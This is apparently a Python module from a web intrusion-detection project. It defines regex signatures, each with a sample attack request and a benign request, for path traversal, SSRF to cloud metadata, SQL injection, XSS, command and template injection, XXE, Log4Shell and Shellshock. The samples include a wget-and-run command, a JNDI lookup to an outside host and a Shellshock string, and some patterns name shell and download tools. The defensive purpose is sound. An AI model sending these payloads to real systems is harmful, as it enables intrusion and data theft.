# Copyright (c) 2026 The bottomup.security authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What is sent along to do harm: the rows of web_signatures for traversal, injections and payloads in headers. Columns as there.

Note that this module util is **PRIVATE** to the collection. It can have breaking changes at any time.

Python 3.6, standard library only: this runs on the servers.
"""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

PAYLOADS = (
    # ---- traversal and inclusion
    ("lfi_file", "traversal", "critical", "any",
     (b"etc+etc/", b"proc+proc/", b"windows+windows/", b"winnt+winnt/", b"inetpub+inetpub/", b"ini+.ini", b"inf+-inf/", b"var+var/log",
      b"cmdb+/cmdb", b"root+root/.", b"bin+bin/"),
     br"(?:^|[/=:?&\s\x00.])etc/(?:passwd|shadow|group|hosts|issue|hostname|motd|fstab|crontab|sudoers|my\.cnf|mysql|apache\d?|httpd|nginx|php|ssh|ssl"
     br"|security|npasswd|master\.passwd|resolv|rc\.|init|vsftpd|proftpd|samba|pki|opt)|(?:^|[/=:])proc/(?:self|\d{1,6}|version|cpuinfo|meminfo|mounts"
     br"|net|cmdline|sched_debug)(?:/|$|\x00|&|\s)|\bwindows/(?:win\.ini|system\d\d|system\.ini|php\.ini|repair|debug)|(?:[a-z]:|[/=])/?(?:winnt"
     br"|inetpub)/|(?:^|[/=])(?:boot|win|system)\.ini(?:$|[&\x00\s%])|\.\./(?:(?!\.\./)[^&])*\bweb-inf/|\bvar/log/(?:apache|httpd|nginx|auth|messages|syslog"
     br"|mail|secure|vsftpd|lastlog|wtmp)|\bdev/cmdb/sslvpn|\broot/\.(?:ssh|bash|my)|/bin/(?:ba|z|k|c|da)?sh(?:$|[\s?;&])",
     "files that every system has at a known place", "GET /download?file=/etc/passwd", "GET /blog/2018/02/etc-passwd"),
    ("dotdot_query", "traversal", "high", "query", (b"../", b"..;"),
     br"(?:^|[=/&:,\s'\"\x00])\.{2,3}[/;][^/\w]{0,40}[/\w]|\.\./\.\./",
     "a parameter that leaves its folder", "GET /download?file=../../../../yarn-debug.log", "GET /search?q=wait..+what"),
    ("dotdot_path", "traversal", "info", "path", (b"../", b"/..", b"..;"),
     br"^/\.\.(?:/|$)|/\.\.;/|\.\./\.\./|[\w.]\.\./|/\.\./(?:(?!/\.\./)[^?])*(?:etc/|proc/|config|\.env|\.git|\.ssh|passwd|windows|\.ya?ml|\.log"
     br"|\.conf|\.ini|\.key)|/cgi-bin/(?:(?!/cgi-bin/)[^?])*\.\./",
     "a path that leaves the document root; the web server normalises it", "GET /images/../../x", "GET /a..b/c"),
    ("wrapper", "traversal", "critical", "target",
     (b"php+:", b"expect+:", b"data+:", b"phar+:", b"zip+:", b"glob+:", b"zlib+:", b"compress+:", b"file+:", b"gopher+:", b"dict+:", b"netdoc+:",
      b"ldap+:", b"ldaps+:"),
     br"\b(?:php|expect|phar|zip|glob|compress\.\w+|zlib)://?(?:filter|input|stdin|output|memory|temp|\w)|\bdata:(?://)?text/(?:plain|html);base\d\d|(?:^"
     br"|[=,(:\s])(?:file:/+(?:etc|proc|root|home|var|dev|windows|[a-z]:/(?:windows|boot))|gopher://|dict://|netdoc:/|ldaps?://\d)",
     "a parameter that opens something else than a file", "GET /?page=php://filter/convert.base64-encode/resource=index", "GET /learn/php-filters"),
    ("remote_include", "traversal", "high", "query",
     (b"shell+://", b"cmd+://", b"c99+://", b"r57+://", b"evil+://", b"fx29id+://", b"id+://", b"echo+://", b"?&", b"? ", b"??", b"?\x00"),
     br"=(?:https?|ftps?)://[^&\s]{1,300}\.(?:txt|php|gif|jpe?g|dat|inc|cmd|asp|htm)\?{1,3}(?:[&\x00]|\s|$)|=(?:https?|ftps?)://[^&\s/]{1,200}/(?:shell"
     br"|cmd|c99|r57|evil|id|fx29id|echo)\d?\.(?:txt|php|gif)",
     "a script from another server", "GET /start.php?lang=http://cirt.net/rfiinc.txt?", "GET /login?return_to=http://shop.example.com/cart"),
    ("ssrf_metadata", "traversal", "critical", "target", (b"metadata", b"meta", b"169.254.169.254"),
     br"169\.254\.169\.254|\bmetadata\.google\.internal|100\.100\.100\.200/latest|latest/\bmeta-data\b",
     "the credentials that a cloud gives its machines", "GET /fetch?url=http://169.254.169.254/latest/\bmeta-data\b/", "GET /versions/169.254"),
    # ---- SQL injection
    ("sql_union", "sqli", "medium", "target", (b"union+select",),
     br"\bunion\b[^a-z0-9]{1,40}(?:(?:all|distinct|distinctrow)\b[^a-z0-9]{0,40})?\(?\s*(?:/\*!?\d*)?\s*select\b[^a-z]{0,40}?(?:null|[\d@*'\"(]|char"
     br"|concat|version|database|user|group_|load_|table_|column_|\w{1,40}\s{0,3}(?:,|\(|\)|from\b))",
     "columns of another table added to the answer", "GET /items?id=1 union select null,version()", "GET /search?q=union+select+committee"),
    ("sql_select", "sqli", "medium", "target",
     (b"select ", b"select(", b"select*", b"select'", b"select\"", b"select@", b"select`", b"select[", b"select]", b"select.", b"select\x0b",
      b"select\x0c"),
     br"\bselect\b\s*(?:\*|(?:count|concat|char|chr|cast|ascii|substr|substring|sleep|pg_sleep|if|elt|max|min|group_concat|hex|length|user|version"
     br"|database|load_file|utl_\w+|dbms_\w+|extractvalue|unhex|benchmark)\s*\(|\(\s{0,5}(?:\d|select|case|null|\'|@@|\w{1,30}\s?\()|@@|case\s+when"
     br"|top\s+\d|distinct\s+\w+\s*(?:,|from)|[\w.`\"\[\]]{1,40}\s*(?:,\s*[\w.`@(]{1,40}\s*)+from\b|(?:(?:\d{1,9}|null|'[^'&]{0,40}')\s{0,5}(?:,|\bfrom\b"
     br"|\bunion\b|$|&|--|\)|\*|;)|\w{1,30}\s+from\s+(?:information_schema|sysobjects|sys\.|pg_|all_|dual|mysql|rdb|users?\b(?:\s*(?:where|limit|--|#|;|$"
     br"|&))|\w+\s+where\b|\w+\s*(?:--|limit))))"
     br"|\(\s*select\b\s*(?:\(|\*|\d|'|@|null|\w{1,30}\s*(?:\(|,|\bfrom\b))",
     "a query inside of a parameter", "GET /items?id=(select count(*) from users)", "GET /search?q=select+a+gift+from+our+store"),
    ("sql_tautology", "sqli", "medium", "target",
     (b"'", b"\"", b"`", b"(", b"or", b"and", b"where", b"having", b"xor", b"rlike", b"when", b"if", b"regexp", b"||", b"&&"),
     br"(?:\b(?:or|and|where|having|xor|rlike|when|if|regexp)\b|\|\||&&)[\s(+'\"!~`-]{0,30}(?:not\s{1,3})?\(*\d{1,10}[\s)'\"]{0,8}(?:=|<>|!=|<=>|<|>"
     br"|\blike\b|\bbetween\s+\d{1,10}\s+and\b|\bin\s*\()[\s(+'\"-]{0,8}(?:\d|select\b)"
     br"|(?:\b(?:or|and|where|having|xor|rlike)\b|\|\|)[\s(]{0,12}(?:['\"`][^'\"&=]{0,40}['\"`]|\(?\s*\w{1,30}\s*\)?)[\s)]{0,8}(?:=|<>|!="
     br"|\blike\b)[\s(]{0,8}['\"`][^'\"&]{0,40}(?:['\"`]|$|&|\s--)"
     br"|['\"`][\s)]{0,12}(?:(?:or|and|xor|having|where|rlike)\b|\|\||&&)[\s(]{0,12}(?:(?:\d{1,10}|true|false)[\s)]{0,8}(?:=|<|>|--|#|/\*|;|\bis\b"
     br"|\blike\b|\bin\b|$|&)|(?:['\"`][^'\"&]{0,40}['\"`]?|not|exists|\w{1,30})[\s)]{0,8}(?:=|--|#|/\*|\blike\b|\brlike\b|\()|(?:ascii|substr\w{0,6}"
     br"|length|mid|updatexml|sleep|exists|extractvalue)\s?\()",
     "a comparison that is always true or false", "GET /users?id=1' or 1=1-- -", "GET /search?q=pen+and+paper"),
    ("sql_quote", "sqli", "medium", "query", (b"'", b"\"", b"`"),
     br"(?:^|=)[^=&'\"]{0,80}['\"`]{1,2}[\s)%]{0,12}(?:--(?:[\s-]|$)|--\s?\w{0,10}(?:$|&)|;?\s*(?:--|/\*)|#\s*(?:$|&)(?<=\)\s#|\)\)#|'\s#))"
     br"|['\"][\s)%]{0,12}(?:union|order\s+by|group\s+by|limit|procedure|into\s+outfile|having|rlike|waitfor|in\s+boolean\s+mode|as\s+\w{1,10}\s+where"
     br"|,\s*\(\s*select)\b",
     "a quote that ends the query's own", "GET /users?name=admin'--", "GET /search?q=rock+'n'+roll"),
    ("sql_function", "sqli", "medium", "target",
     (b"sleep+(", b"pg_sleep+(", b"benchmark+(", b"waitfor", b"randomblob+(", b"extractvalue+(", b"updatexml+(", b"load_file+(", b"outfile",
      b"dumpfile", b"generate_series+(", b"procedure+analyse", b"make_set+(", b"elt+(", b"json_keys+(", b"ctxsys", b"group_concat+(",
      b"concat+(", b"concat_ws+(", b"boolean+mode", b"char+(", b"nchar+(", b"chr+(", b"iif+(", b"ascii+(", b"ord+(", b"mid+(", b"substr+(",
      b"substring+(", b"floor+(", b"exp+(", b"uuid_short+(", b"crypt_key+(", b"convert+(", b"cast+(", b"count+(", b"row+(",
      b"regexp_substring+(", b"regexp_like+(", b"regexp_replace+(", b"xp_cmdshell", b"xp_dirtree", b"sp_executesql", b"sp_password",
      b"sp_oacreate", b"utl_inaddr", b"utl_http", b"utl_file", b"dbms_pipe", b"dbms_lock", b"dbms_utility", b"dbms_xslprocessor", b"dbms_ldap",
      b"gtid_subset+(", b"gtid_subtract+("),
     br"\b(?:pg_)?sleep\s*\(\s*(?:\d+(?:\.\d+)?\s*(?:[),*+/-]|$)|__|\(|'|@|select)|\bbenchmark\s*\(\s*\d+\s*,|\bwaitfor\s+(?:delay|time)\b"
     br"|\brandomblob\s*\(|\bextractvalue\s*\(|\bupdatexml\s*\(|\bload_file\s*\(|\binto\s+(?:out|dump)file\b|\bxp_(?:cmdshell|dirtree)\b"
     br"|\bsp_(?:executesql|password|oacreate)\b|\bdbms_(?:pipe|lock|utility|xslprocessor|ldap)\b|\butl_(?:inaddr|http|file)\b|\bgenerate_series\s*\("
     br"|\bprocedure\s+analyse\b|\bmake_set\s*\(|\belt\s*\(\s*[\d(]|\bgtid_sub(?:set|tract)\s*\(|\bjson_keys\s*\(|\bctxsys\.|\bgroup_concat\s*\("
     br"|\bconcat(?:_ws)?\s*\(\s*(?:\dx|char|'|\"|\(|@@|\d|md\d|user|database|version|chr|\w+\s*,)|\bin\s+boolean\s+mode\s*\)|\b(?:n?char"
     br"|chr)\s*\(\s*\d{1,4}\s*(?:,|\)\s*(?:\|\||\+|\s|,|&|=))|\biif\s*\(\s*\d|\b(?:ascii|ord|mid|substr(?:ing)?)\s*\(\s*(?:\(|mid|substr|select|user"
     br"|database|version|@@|length|lower|group)|\bfloor\s*\(\s*rand|\bexp\s*\(\s*~|\buuid_short\s*\(|\bcrypt_key\s*\(|\b(?:convert|cast)\s*\(\s*(?:int"
     br"|\(|char|concat|chr|select|@@|user|database|version|\w+\s+as\s)|\bcount\s*\(\s*\*\s*\)|\brow\s*\(\s*\d+\s*,\s*\d+\s*\)\s*[<>]"
     br"|\bregexp_(?:substring|like|replace)\s*\(",
     "functions that wait, read files or carry data out", "GET /items?id=1 and sleep(5)", "GET /search?q=sleep+(8+hours)"),
    ("sql_schema", "sqli", "medium", "target",
     (b"information_schema", b"sysobjects", b"syscolumns", b"sysusers", b"sysibm", b"sysmaster", b"sysdatabases", b"rdb", b"pg_catalog",
      b"pg_shadow", b"pg_user", b"pg_tables", b"all_users", b"all_tables", b"user_tables", b"sqlite_master", b"mysql", b"dual",
      b"msysaccessobjects", b"domain", b"master", b"@@"),
     br"\binformation_schema\b|\bsys(?:objects|columns|users|ibm|master|databases)\b|\brdb\$|\bpg_(?:catalog|shadow|user|tables)\b|\ball_(?:users"
     br"|tables)\b|\buser_tables\b|\bsqlite_master\b|\bmysql\.(?:user|db|innodb)|\bfrom\s+dual\b|@@(?:version|hostname|datadir|servername|global|basedir)"
     br"|\bmsysaccessobjects\b|\bdomain\.domains\b|\bmaster\.\.",
     "the tables that describe a database", "GET /items?id=1 and 1 in (select table_name from information_schema.tables)", "GET /search?q=information+schema"),
    ("sql_statement", "sqli", "medium", "target",
     (b";", b"order+by", b"case+when", b"drop+table", b"drop+database", b"insert+into", b"delete+from", b"update+set", b"exec+master",
      b"exec+xp_", b"exec+sp_"),
     br";\s{0,5}(?:drop\s+(?:table|database|user|view|index)\b|insert\s+into\b|delete\s+from\b|update\s+[\w.`\"]{1,40}\s+set\b|declare\s+@"
     br"|exec(?:ute)?[\s(]+(?:master|immediate|xp_|sp_|@|\(|'|dbms)|shutdown\b|truncate\s+table|alter\s+(?:table|user)|create\s+(?:table|user|function"
     br"|or\s+replace)|begin\s+(?:dbms|declare|user)|call\s+\w+\s*\(|select\b\s*(?:\(|\*|\w+\s*\(|like|case))"
     br"|(?:['\")]\s{0,5}|\d\s{1,5})order\s+by\s+\d{1,5}\s{0,5}(?:--|#|,|$|&|/\*)|\bcase\s+when\s{0,5}(?:[\d('\"@]|\w{1,30}\s{0,3}[=<>(])[^&]{0,80}\bthen\b"
     br"|\bdrop\s+(?:table|database)\s+(?:if\s+exists\s+)?[\w.`\"]+\s*(?:;|--)|\binsert\s+into\s+[\w.`]+\s*(?:\([^)&]{1,100}\)\s*)?values\b"
     br"|\bdelete\s+from\s+[\w.`]+\s*(?:where\b|;|--)|\bupdate\s+[\w.`]+\s+set\s+[\w.`]+\s*=|\bexec\s+(?:master|xp_|sp_)",
     "a statement that follows the query's own", "GET /items?id=1;drop table users", "GET /search?q=drop+earring"),
    # ---- cross-site scripting
    ("xss_tag", "xss", "medium", "any", (b"<",),
     br"<[\s/]{0,5}(?:script|svg|iframe|object|embed|math|marquee|isindex|meta|base|bgsound|layer|ilayer|applet|frameset|frame|xml|xss|link|style|img"
     br"|image|video|audio|body|input|form|details|textarea|keygen|select|button|plaintext|noscript|template|title|html|(?:a|div|b|p|x|table|td|span|i|u"
     br"|s)\s[^<>]{0,100}[=>]|!--|!doctype|!entity|!\[cdata|\?xml|\?import)",
     "HTML in a request", "GET /search?q=<script>alert(1)</script>", "GET /search?q=a<b"),
    ("xss_handler", "xss", "medium", "target",
     (b"onerror", b"onload", b"onclick", b"onfocus", b"onfocusin", b"onfocusout", b"onblur", b"ontoggle", b"onstart", b"onbegin", b"onend",
      b"onfinish", b"onbounce", b"onsubmit", b"onchange", b"oninput", b"onselect", b"onresize", b"onscroll", b"onpageshow", b"onpagehide",
      b"onhashchange", b"ondrop", b"oncopy", b"oncut", b"onpaste", b"oncontextmenu", b"ondblclick", b"onwheel", b"onmessage", b"onpopstate",
      b"onunload", b"onbeforeunload", b"onreadystatechange", b"onactivate", b"onshow", b"onrepeat", b"oncancel", b"onreset", b"onsearch",
      b"oninvalid", b"onauxclick", b"onmouseover", b"onmouseout", b"onmousemove", b"onmouseenter", b"onmousedown", b"onmouseup", b"onmouseleave",
      b"onkeyup", b"onkeydown", b"onkeypress", b"onpointerdown", b"onpointerup", b"onpointerover", b"onpointerenter", b"onpointermove",
      b"onpointerleave", b"onpointerout", b"onpointerrawupdate", b"onanimationstart", b"onanimationend", b"onanimationiteration",
      b"onanimationcancel", b"ontransitionend", b"ontransitionstart", b"ontransitionrun", b"ontransitioncancel", b"ondrag", b"ondragstart",
      b"ondragend", b"ondragover", b"ondragenter", b"ondragleave", b"onseeked", b"onseeking"),
     br"(?:[\s\"'/<>;&\x00]|^)on(?:error|load|click|mouse(?:over|out|move|enter|down|up|leave)|focus(?:in|out)?|blur|toggle|start|begin|end|finish|bounce"
     br"|key(?:up|down|press)|submit|change|input|select|resize|scroll|pageshow|pagehide|hashchange|pointer(?:down|up|over|enter|move|leave|out"
     br"|rawupdate)|animation(?:start|end|iteration|cancel)|transition(?:start|end|run|cancel)|drag(?:start|end|over|enter|leave)?|drop|copy|cut|paste"
     br"|contextmenu|dblclick|wheel|message|popstate|unload|beforeunload|readystatechange|activate|show|repeat|seek(?:ed|ing)|cancel|reset|search|invalid"
     br"|auxclick)\s{0,5}=\s{0,5}(?:[\"'`]|[\w.$]{1,40}[(`]|\w+\s{0,3}=|[\w.]+$|javascript)",
     "an event handler of HTML", "GET /search?q=\" onmouseover=alert(1) x", "GET /map?onload=1&x=2"),
    ("xss_script", "xss", "medium", "target",
     (b"javascript+:", b"vbscript+:", b"livescript+:", b"document+document.", b"window+window.", b"window+window[", b"alert+(", b"alert+`",
      b"alert+&lpar", b"prompt+(", b"prompt+`", b"prompt+&lpar", b"confirm+(", b"confirm+`", b"confirm+&lpar", b"eval+(", b"eval+`",
      b"eval+&lpar", b"settimeout+(", b"settimeout+`", b"settimeout+&lpar", b"setinterval+(", b"setinterval+`", b"setinterval+&lpar", b"atob+(",
      b"atob+`", b"atob+&lpar", b"fromcharcode", b"expression+(", b"moz", b"srcdoc", b"data+data:", b"constructor+(", b"top+[", b"self+[",
      b"this+[", b"parent+[", b"innerhtml+.innerhtml", b"location+location.", b"location+'", b"location+\""),
     br"\b(?:javascript|vbscript|livescript)\s?:[^\s&=]|\bdocument\.(?:cookie|domain|write|location|body|createelement|getelement)"
     br"|\bwindow(?:\.(?:location|open|name)\b|\[)|\b(?:alert|prompt|confirm|eval|settimeout|setinterval|atob)(?:\s?\(\s?[\d'\"/`]|\([a-z(]|`|&lpar)"
     br"|string\.fromcharcode\b|[:;]\s?expression\s?\(|-moz-binding|\bsrcdoc\s?=|\bdata:text/html|\.constructor\s?\(|\b(?:top|self|this"
     br"|parent)\s?\[\s?['\"/]|\.innerhtml\b|\blocation\s?=\s?['\"]|\blocation\.(?:hash|href|search)\b",
     "JavaScript in a request", "GET /?x=javascript:alert(1)", "GET /search?q=javascript:+the+good+parts"),
    # ---- commands, code, templates
    ("command", "injection", "medium", "target", (b";", b"|", b"`", b"$(", b"&&", b"\x0b", b"\x0c"),
     br"(?:;|\|{1,2}|&&|`|\$\(|\x0b|\x0c)\s{0,5}(?:/?(?:usr/)?s?bin/)?(?:whoami|uname|wget|curl|ifconfig|ipconfig|netstat|nslookup|powershell|busybox"
     br"|chmod|ncat|nc\s|tftp|telnet|phpinfo|systeminfo|tasklist|hostname|printenv|"
     br"cat\s{0,3}[/$<{.'\"~]|(?:sleep|timeout|ping)\s{1,3}(?:-\w\s?)?\d|id\s{0,3}(?:$|[;|&`)#\s])|ls\s{0,3}(?:$|-\w|/|[;|&`)#])|echo\s{0,3}[$'\"`(\d-]"
     br"|echo\s+\w+\s*[|>;]|dir\s{0,3}(?:$|[a-z]:|[;|&])|type\s{1,3}\S{0,30}[/.:]|(?:ba|z|da|k|c)?sh\s{1,3}[-/<]|(?:python|perl|ruby|php"
     br"|node)[\d.]{0,4}\s{1,3}-|rm\s{1,3}-|ps\s{0,3}(?:$|-|aux|[;|&])|set\s{0,3}(?:$|[;|&])|env\s{0,3}(?:$|[;|&])|ver\s{0,3}(?:$|[;|&])|pwd\s{0,3}(?:$"
     br"|[;|&`])|dig\s{1,3}[\w.-]+\.|host\s{1,3}[\w.-]+\.|find\s{1,3}[/.]|touch\s{1,3}/|reg\s{1,3}query|net\s{1,3}(?:user|view|localgroup)"
     br"|del\s{1,3}\S)(?![\w=-]*=)",
     "a shell command behind a separator", "GET /ping?host=1.1.1.1;cat /etc/hosts", "GET /search?q=fish;chips&id=5"),
    ("command_name", "injection", "high", "any",
     (b"wget+ ", b"wget+\x0b", b"wget+\x0c", b"curl+ ", b"curl+\x0b", b"curl+\x0c", b"bin+bin/", b"cmd+/c", b"cmd+.exe", b"powershell",
      b"cd+/tmp", b"chmod", b"rm+-rf", b"busybox", b"sbin+bin/"),
     br"\b(?:wget|curl)\b\s{1,3}(?:-{1,2}[\w-]{1,20}\s{1,3}){0,6}[\"']?(?:https?:|ftp:|\d{1,3}\.|[\w.-]{3,60}/)|(?:^|[=\s;"
     br"|(`/])(?:usr/(?:local/)?)?s?bin/(?:(?:ba|z|k|c|da)?sh|cat|id|ls|ps|nc|ping|uname|wget|curl|python\d?|perl)(?:$|[\s;|&?)'\"`])"
     br"|\bcmd(?:\.exe)?\s?/c\b|\bcmd\.exe\b|\bpowershell(?:\.exe)?\s{1,3}-\w|\bcd\s{1,3}/tmp\b|\bchmod\s{1,3}(?:\+x|\d{3,4})\s|\brm\s{1,3}-rf\b"
     br"|\bbusybox\s{1,3}\w",
     "a program of the system", "GET /cgi-bin/x?cmd=wget http://198.51.100.1/a.sh", "GET /search?q=curl+cream"),
    ("php_code", "injection", "high", "target",
     (b"phpinfo+(", b"base64_decode+(", b"shell_exec+(", b"exec+(", b"system+(", b"passthru+(", b"popen+(", b"proc_open+(", b"pcntl_exec+(",
      b"assert+(", b"call_user_func", b"call_user_func_array", b"invokefunction", b"allow_url_include", b"auto_prepend_file",
      b"file_get_contents", b"file_put_contents", b"fwrite+(", b"print+(", b"die+(", b"echo+(", b"var_dump+(", b"gzinflate+(", b"md5+(", b"<?",
      b"$_"),
     br"<\?(?:php|=|\s)|\bphpinfo\s{0,3}\(|\bbase\d\d_decode\s{0,3}\(|\b(?:shell_exec|exec|system|passthru|popen|proc_open|assert"
     br"|pcntl_exec)(?:\s{0,2}\(\s{0,3}[$'\"]|\(\w)|\bcall_user_func(?:_array)?\b|\binvokefunction\b|\ballow_url_include\b|\bauto_prepend_file\b"
     br"|\bfile_(?:get|put)_contents\b|\bfwrite\s?\(|\b(?:print|die|echo|var_dump)\b\s?\(?\s?(?:md\d|chr|base\d\d|\$_|sha\d)\s?\(|\bgzinflate\s?\("
     br"|\$_(?:get|post|request|server|cookie|files|session|env)\b|\bmd\d\s?\(\s?[\d'\"]",
     "PHP code", "GET /index.php?s=/index/think\\app/invokefunction&function=call_user_func_array", "GET /search?q=php+system"),
    ("template", "injection", "high", "any",
     (b"getruntime", b"processbuilder", b"ognl", b"java+java.lang", b"classloader", b"freemarker", b"set+#set", b"{", b"<%", b"*__class__",
      b"*__globals__", b"*__subclasses__", b"*__builtins__", b"*__mro__", b"*__init__", b"*__import__", b"*__base__"),
     br"\{\{[-\s]{0,3}(?:\d{1,9}\s?[*+]\s?'?\d|config\b|self\b|request\.|''|\"\"|\[\]|\(\)|_self|lipsum|cycler|joiner|url_for\.|get_flashed|constructor"
     br"|this\.|range\.|app\.|\$on\b|dump\()|[$#*@]\{\s{0,3}(?:\d{1,9}\s?[*+]\s?\d|t\(|@|#|script:|dns:|url:|java|new\s|class\.|\"|'|request\b|session"
     br"|application|system\b|process|%x|`|ifs\b)|<%(?:=\s{0,3}\d|[=-]?\s{0,3}(?:system|`|file|dir|io\.|exec|eval|response|runtime|%x))|__(?:class"
     br"|globals|subclasses|builtins|mro|init|import|base)__|\bgetruntime\b|\bprocessbuilder\b|\bognl\b|\bjava\.lang\.|class(?:\.module)?\.classloader\b"
     br"|\bfreemarker\.template|#set\s?\(\s?\$|\{%\s{0,3}(?:for|if|set|import|debug|include|raw)\b",
     "a template expression that the server would evaluate", "GET /?name={{7*7}}", "GET /images/{{photo.url}}"),
    ("header_split", "injection", "medium", "target", (b"\x0b", b"\x0c"),
     br"[\x0b\x0c]{1,4}\s?(?:set-cookie|location|content-(?:type|length|disposition)|x-[\w-]{2,30}|http/\d|refresh|link|access-control-[\w-]{2,30}"
     br"|[\w-]{3,30})\s?:",
     "a header behind a line break", "GET /go?to=x%0d%0aset-cookie:a=b", "GET /notes?text=a%0ab"),
    ("xxe", "injection", "medium", "target", (b"<!", b"xi:include", b"<xsl:"),
     br"<!(?:entity|doctype|element|attlist)\b|\bxi:include\b|<xsl:",
     "XML that reads files", "GET /?xml=<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>", "GET /entity"),
    ("prototype", "injection", "medium", "target", (b"constructor", b"*__proto__", b"[$"),
     br"__proto__(?:\[|\.)|\bconstructor(?:\[|\.)prototype|\[\$(?:ne|gte?|lte?|regex|where|exists|nin|in|eq)\]",
     "an object changed through its prototype, or an operator of MongoDB", "GET /?__proto__[x]=1", "GET /?filter[price][gt]=5"),
    ("null_byte", "injection", "medium", "target", (b"\x00",),
     br"[\w./]\x00",
     "a null byte that cuts a name", "GET /download?file=report.pdf%00.jpg", "GET /a"),
    # ---- headers and everywhere
    ("log4shell", "log4shell", "high", "any", (b"jndi", b"${"),
     br"\$\{\s{0,3}jndi\b|\$\{[^}\x0b]{0,60}\$\{|\$\{(?:lower|upper|env|sys|main|date|ctx|base\d\d|hostname|log\dj|::|:)\s{0,3}:|\bjndi:(?:ldaps?|rmi|dns"
     br"|iiop|corba|nis|nds|http)",
     "CVE-2021-44228", "GET /?x=${jndi:ldap://198.51.100.7/a}", "GET /images/${photo}"),
    ("shellshock", "shellshock", "high", "any", (b"()",),
     br"(?<![\w)])\(\)\s?\{\s{0,3}(?::|_|[^}]{0,60}\}?\s{0,3};|ignored)",
     "CVE-2014-6271", "GET /cgi-bin/x?a=() { :;}; /bin/id", "GET /?x=f(){}"),
)
